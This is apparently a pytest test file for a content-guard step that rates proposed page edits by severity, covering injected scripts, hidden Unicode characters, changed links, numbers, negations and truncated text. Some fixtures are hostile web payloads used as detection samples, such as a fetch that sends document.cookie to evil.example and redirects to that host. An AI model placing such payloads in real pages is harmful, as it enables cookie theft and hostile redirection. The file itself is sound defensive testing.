"""How severe a finding is: what belongs to a page is no block, and what hides nothing is worth a look, no more."""

from __future__ import annotations

import time

import pytest

from flowbuilder.steps.builtin.guard.comparison import findings_of

TEMPLATE = "{% if page.title %}\n<head><title>{{ page.title }}</title></head>\n{% endif %}\n<p>Tea is served.</p>\n"
PAGE = (
    "<!doctype html>\n<html><body><p>Tea is served.</p>\n"
    '<script src="https://cdn.example/tea-1.0.js"></script>\n<script>brew(80)</script>\n</body></html>\n'
)
TEXT = "Tea is served at five, as it was said before.\n"


def severities(base: str, proposal: str, rule: str) -> list[str]:
    return [finding["severity"] for finding in findings_of(base, proposal, {}) if finding["rule"] == rule]


@pytest.mark.parametrize(
    ("base", "proposal", "severity"),
    [
        (TEMPLATE, f'{TEMPLATE}<script src="https://count.example/x.js"></script>\n', "block"),
        (TEMPLATE, f"{TEMPLATE}<script>pour()</script>\n", "warning"),
        ("{% if tea %}Tea{% endif %}\n", "{% if tea %}Tea{% endif %}\n<script>pour()</script>\n", "block"),
        ("{#- notes -#}\n" + TEMPLATE, "{#- notes -#}\n" + TEMPLATE + '<b onclick="open()">Tea</b>\n', "warning"),
        (PAGE, PAGE.replace("tea-1.0", "tea-1.1"), "warning"),
        (PAGE, PAGE.replace("brew(80)", "brew(90)"), "warning"),
        (PAGE, PAGE.replace("<script>", "<script>pour()</script><script>"), "warning"),
        (PAGE, PAGE.replace("cdn.example/tea-1.0", "evil.example/tea-1.0"), "block"),
        (PAGE, PAGE.replace("brew(80)", "fetch('//evil.example/' + document.cookie)"), "block"),
        (TEXT, f"{TEXT}\n<script setup>\nimport Tea from './Tea.vue'\n</script>\n", "warning"),
        (TEXT, f"{TEXT}\n<script setup>\nimport Tea from './Tea.vue'\nsteal()\n</script>\n", "block"),
        (TEXT, f"{TEXT}\n<p onclick='open()'>Tea</p>\n", "block"),
        (TEXT, f'{TEXT}\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n', "block"),
        (f"{{% include tea %}}\n\n{TEXT}", f"{{% include tea %}}\n\n{TEXT}\n<script>x()</script>\n", "block"),
        # a proposal does not make itself a template
        (TEXT, f"{{% if x %}}\n{TEXT}{{% endif %}}\n<script>x()</script>\n", "block"),
    ],
)
def test_a_script_that_belongs_to_its_page_is_a_warning_and_another_is_a_block(
    base: str, proposal: str, severity: str
) -> None:
    assert set(severities(base, proposal, "what_runs")) == {severity}


LONG_SCRIPT = "brew(80); " * 40


@pytest.mark.parametrize(
    ("base", "proposal", "severity"),
    [
        (LONG_SCRIPT, f"{LONG_SCRIPT}pour()", "warning"),
        (LONG_SCRIPT, f"{LONG_SCRIPT}fetch('//evil.example/' + document.cookie)", "block"),
        (f"{LONG_SCRIPT}var d = '2016-02-11';", f"{LONG_SCRIPT}var d = '2017-03-12';", "info"),
        (f"{LONG_SCRIPT}var d = 'pour';", f"{LONG_SCRIPT}var d = 'pour()';", "warning"),
        (f"{LONG_SCRIPT}by = 'Ada';", f"{LONG_SCRIPT}by = '<a href=\"https://ada.example\">Ada</a>';", "warning"),
        (f'{LONG_SCRIPT}var all = [{{"link": "https://a.example"}}]',
         f'{LONG_SCRIPT}var all = [{{"link": "https://b.example"}}]', "warning"),
        (LONG_SCRIPT, f"{LONG_SCRIPT}by = '<a href=https://ada.example>Ada</a>';", "warning"),
        (LONG_SCRIPT, f"{LONG_SCRIPT}by = '<a onclick=load(`https://evil.example`)>Ada</a>';", "block"),
        (LONG_SCRIPT, f"{LONG_SCRIPT}location.href = 'https://evil.example'", "block"),
        (LONG_SCRIPT, f"{LONG_SCRIPT}link.href = 'https://evil.example/a.css'", "block"),
    ],
)  # fmt: skip
def test_a_script_is_compared_to_its_end(base: str, proposal: str, severity: str) -> None:
    pages = (PAGE.replace("brew(80)", script) for script in (base, proposal))
    assert set(severities(*pages, "what_runs")) == {severity}


@pytest.mark.parametrize(
    ("base", "proposal", "severity"),
    [
        (f'<b onclick="{LONG_SCRIPT}">Tea</b>', f'<b onclick="{LONG_SCRIPT}pour()">Tea</b>', "warning"),
        ('<meta http-equiv="refresh" content="9;url=/a">', '<meta http-equiv="refresh" content="9;url=//b.example">',
         "block"),
        ('<iframe srcdoc="<b>Tea</b>"></iframe>', '<iframe srcdoc="<b onclick=pour()>Tea</b>"></iframe>', "block"),
        ("[Tea](javascript:brew())", "[Tea](javascript:pour())", "warning"),
    ],
)  # fmt: skip
def test_what_runs_is_compared_to_its_end(base: str, proposal: str, severity: str) -> None:
    assert severity in severities(f"{TEXT}\n{base}\n", f"{TEXT}\n{proposal}\n", "what_runs")


def test_a_meta_tag_runs_nothing() -> None:
    page = "<html><head><title>Tea</title></head><body><p>Tea.</p></body></html>"
    more = page.replace("<title>", '<meta name="viewport" content="width=device-width"><title>')
    assert severities(page, more, "what_runs") == []


@pytest.mark.parametrize(
    ("base", "added", "severity"),
    [
        (TEXT, "Green\u200bhouse.", "block"),
        (TEXT, "Green \u200b\u200btea.", "warning"),
        (TEXT, "Green tea.\u200b", "warning"),
        (TEXT, "Green " + "\u200b\u200c" * 8 + " tea.", "block"),
        (TEXT, "Green \u202etea.", "block"),
        (TEXT, "Green \x1b[8mtea.", "block"),
        (TEXT, "Green\vtea is\u2028served.", "warning"),
        (TEXT, "\u200fGreen tea.", "block"),
        ("תה ירוק מוגש בחמש.\n", "der, pem, " * 9 + "\u200ftxt", "info"),
        ("泡绿茶的水应该很热。\n", "绿\u200b茶", "info"),
    ],
)
def test_invisible_characters_that_split_no_word_are_no_block(base: str, added: str, severity: str) -> None:
    assert set(severities(base, f"{base}\n{added}\n", "invisible")) == {severity}


CODE = "Call it.\n\n```python\nkettle = Kettle()\nkettle.brew(80)  # as hot as that\n```\n"
LONG = "Green tea is served in a small cup, because it is drunk while it is hot, and the cup is filled again."


@pytest.mark.parametrize(
    ("rule", "base", "proposal", "severity"),
    [
        ("code", CODE, CODE.replace("kettle.brew", "kettle.fill()\nkettle.brew"), "info"),
        ("code", CODE, CODE.replace("as hot as that", "no hotter"), "info"),
        ("code", CODE, CODE.replace("```python", "```py"), "info"),
        ("code", CODE, CODE.replace("brew(80)", "brew(90)"), "warning"),
        ("code", CODE, CODE.replace("kettle = Kettle()\n", ""), "warning"),
        ("code", f"Use the `tea` for it. {LONG}", f"Use the tea for it. {LONG}", "info"),
        ("code", f"Use the `tea` for it. {LONG}", f"Use the `cup` for it. {LONG}", "warning"),
        ("new_links", "See [a](https://tea.example/a).", "See [a](https://tea.example/a), [b](https://tea.example/b).",
         "info"),
        ("new_links", "See [a](https://tea.example/a).",
         "See [a](https://tea.example/a), [b](https://docs.tea.example/b).", "info"),
        ("new_links", "See [a](https://tea.co.uk/a).", "See [a](https://tea.co.uk/a), [b](https://evil.co.uk/b).",
         "warning"),
        ("lost_links", "See [tea](/en/guide/tea.html).", "See [tea](/guide/v2/tea).", "info"),
        ("lost_links", "See [tea](/en/guide/tea.html).", "See [tea](/guide/kettle).", "warning"),
        ("lost_links", "[Tea](/tea) and [tea](/tea), say we.", "[Tea](/tea) and tea, say we.", "warning"),
        ("lost_headings", "## Storing green tea\n\nText.", "## Storing the green tea\n\nText.", "info"),
        ("lost_headings", "## Storing green tea\n\nText.", "## Where to put it\n\nText.", "warning"),
        ("new_numbers", TEXT, f"{TEXT}\nThere are 3 cups, says Tea 2.1 of 2024, see #4711.", "info"),
        ("new_numbers", TEXT, f"{TEXT}\nWe fixed the tea of CVE-2024-3790, in version 1.2.3.", "info"),
        ("new_numbers", TEXT, f"{TEXT}\nIt is drunk by 15,000 guests.", "warning"),
        ("new_numbers", TEXT, f"{TEXT}\nIt is drunk by 7% of the guests.", "warning"),
        ("new_numbers", "The 12 guests drink tea.", "The 13 guests drink tea.", "warning"),
        ("quotes", "Press “Brew tea” and wait for a while.", "Press “Brew now” and wait for a while.", "info"),
        ("quotes", "> **Note:** the tea is hot.", "> **Note:** the tea is warm.", "info"),
        ("quotes", "> The tea of my life was cold.", "> The tea of my life was hot.", "warning"),
        ("shortcodes", '{{< figure src="/a.png" >}}\n\nTea.', '{{< figure src="/a.png" alt="Tea" >}}\n\nTea.', "info"),
        ("shortcodes", '{{< figure src="/a.png" >}}\n\nTea.', '{{< figure src="/b.png" >}}\n\nTea.', "warning"),
        ("negations", "Do not boil the water again today.", "Do boil the water again today.", "warning"),
        ("negations", "Do not boil the water again today.", "Please do boil the water, it is time today.", "info"),
        ("names", "The tin comes from Japan, says Yamada.", "The tin was made in China, as Yamada says.", "info"),
        ("repeated", f"- {LONG}\n- Tea.\n", f"- {LONG}\n- Tea.\n- {LONG}\n", "info"),
    ],
)  # fmt: skip
def test_what_is_likely_to_be_meant_is_worth_a_look(rule: str, base: str, proposal: str, severity: str) -> None:
    assert set(severities(f"{base}\n", f"{proposal}\n", rule)) == {severity}


@pytest.mark.parametrize(
    ("rule", "base", "proposal"),
    [
        ("left_open", TEXT, f"{TEXT}\nReplace <TEA_VERSION> by yours.\n"),
        ("left_over", "Es ist té.\n", "Es ist té.\n\nEsto es todo lo que (your cup) es.\n"),
        ("repeated", "Calls `a`.\n",
         "Calls the kettle that is named `a` here.\n\nCalls the kettle that is named `b` here.\n"),
        ("footnotes", TEXT, f"{TEXT}\nThanks to [@ada](https://a.example/), released (Jul 13, 2025).\n"),
        ("dates", "Tea 0.5.12 is served to all guests.\n", "Tea 0.5.14 is served to all guests.\n"),
        ("cut_off", "- Tea 3.1.6 (of 2024)\n- Milk\n", "- Tea 3.1.6\n- Milk\n"),
        ("order", "# A\n\n## Fixes\n\n1\n\n# B\n\n## News\n\n2\n\n## Fixes\n\n3\n",
         "# C\n\n## News\n\n4\n\n# A\n\n## Fixes\n\n1\n\n# B\n\n## News\n\n2\n\n## Fixes\n\n3\n"),
    ],
)  # fmt: skip
def test_what_is_no_damage_is_no_finding(rule: str, base: str, proposal: str) -> None:
    assert severities(base, proposal, rule) == []


def test_a_sentence_that_stops_and_runs_into_the_next_one_is_noticed() -> None:
    page = "Green tea is kept in a tin, away from spices.\nWait for two minutes.\n\nPour it.\n"
    assert severities(page, page.replace(", away from spices.", ""), "cut_off") == ["warning"]


def test_indented_attributes_of_a_component_are_no_code() -> None:
    page = 'import Card from "./card"\n\n<Card\n\n    title="Tea"\n/>\n\nTea is served.\n'
    assert severities(page, page.replace('title="Tea"', 'title="Tea"\n    icon="cup"'), "code") == []


def test_a_list_entry_of_front_matter_that_occurs_twice_is_missed() -> None:
    page = "---\ntags:\n- tea\n- cups\ncategories:\n- tea\n---\n\nTea.\n"
    assert severities(page, page.replace("- tea\n- cups", "- cups"), "front_matter") == ["warning"]


def test_many_invisible_characters_are_counted_by_what_they_do() -> None:
    page = "Green tea is served.\n"
    (hidden,) = findings_of(page, page + "\n" + "\u200b" * 50_000 + "\n", {})
    assert (hidden["severity"], hidden["evidence"].split(";")[0]) == ("block", "50000 invisible characters")
    found = findings_of(page, page + "\n" + "ti\u200bme of \u200btea " * 9, {})
    counts = {
        finding["severity"]: finding["evidence"].split(" ")[0] for finding in found if "invisible" in str(finding)
    }
    assert counts == {"block": "9", "warning": "9"}


def test_a_name_among_many_words_is_compared_in_bounded_time() -> None:
    text = "Aa Bb " * 20_000
    begun = time.process_time()
    findings_of(text, text[::-1], {})
    alone = time.process_time() - begun
    begun = time.process_time()
    findings_of(text * 2, (text * 2)[::-1], {})
    assert time.process_time() - begun < 4 * alone + 1


@pytest.mark.parametrize(
    ("page", "left"),
    [
        ("Tea is kept in a tin. It is kept away from spices, in the dark.", "Tea is kept in a tin. It"),
        ("Tea is kept in a tin, in the dark. Wait for it. Pour it now.", "Tea is kept in a tin"),
        ("大多数人每天都喝绿茶，水应该很热，等两分钟再喝。", "大多数人每天都喝绿茶，水应"),
        ("Tea is kept in a tin, in the dark.", "Tea is kept in a ti"),
    ],
)
def test_a_paragraph_of_which_the_beginning_is_left_stops_in_the_middle(page: str, left: str) -> None:
    assert severities(f"{page}\n\nMore tea, please.\n", f"{left}\n\nMore tea, please.\n", "cut_off") == ["warning"]


def test_a_page_of_code_that_lost_its_fence_is_noticed() -> None:
    code = "import { Tea } from 'tea';\n\nconst cup = new Tea(80);\ncup.pour();"
    assert severities(f"```ts\n{code}\n```\n", f"{code}\n", "code") == ["warning"]


def test_an_address_in_plain_text_is_a_link() -> None:
    page = "Write to office@tea.example if you like.\n"
    assert severities(page, page.replace("tea.example", "mail.example"), "lost_links") == ["warning"]
    assert severities("Install tea@1.2.3 now.\n", "Install tea@1.2.4 now.\n", "lost_links") == []


def test_a_task_in_a_sentence_that_says_the_opposite_is_a_warning() -> None:
    page = "Close the valve before you open the lid.\n"
    assert severities(page, page.replace("before", "after"), "negations") == ["warning"]
    assert severities(page, page.replace("before", "when"), "negations") == []


def test_what_was_not_compared_is_said() -> None:
    page = "Green tea is served.\n"
    found = findings_of(page, page + "ti" + "\u200b" * 100_001 + "me\n", {})
    assert any("what follows them was not compared" in one["evidence"] for one in found if one["rule"] == "invisible")
    rows = [f"Cup {number} of tea is served at {number} by Ada." for number in range(4_001)]
    found = findings_of("\n\n".join(rows), "\n\n".join(row.replace("by Ada", "by Eve") for row in rows), {})
    assert any("one by one" in one["evidence"] for one in found if one["rule"] == "unread")
